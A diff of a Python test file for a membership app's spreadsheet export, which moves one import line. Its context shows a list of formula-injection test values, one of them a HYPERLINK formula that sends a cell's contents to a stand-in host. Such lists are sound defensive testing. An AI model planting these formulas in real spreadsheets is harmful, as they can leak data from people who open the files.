@@ -9,7 +9,6 @@ import unicodedata
 import zipfile
 
 import pytest
-from partydesk.storage.members.search import all_members
 
 from partydesk.i18n import render
 from partydesk.services.members.spreadsheets import (
@@ -18,6 +17,7 @@ from partydesk.services.members.spreadsheets import (
     export_register,
     preview,
 )
+from partydesk.storage.members.search import all_members
 from tests.members.test_spreadsheets import GOOD, HEADER, reasons, write_csv
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&B2,"Xem")', "+1+1", "-2+3", "@SUM(A1)",
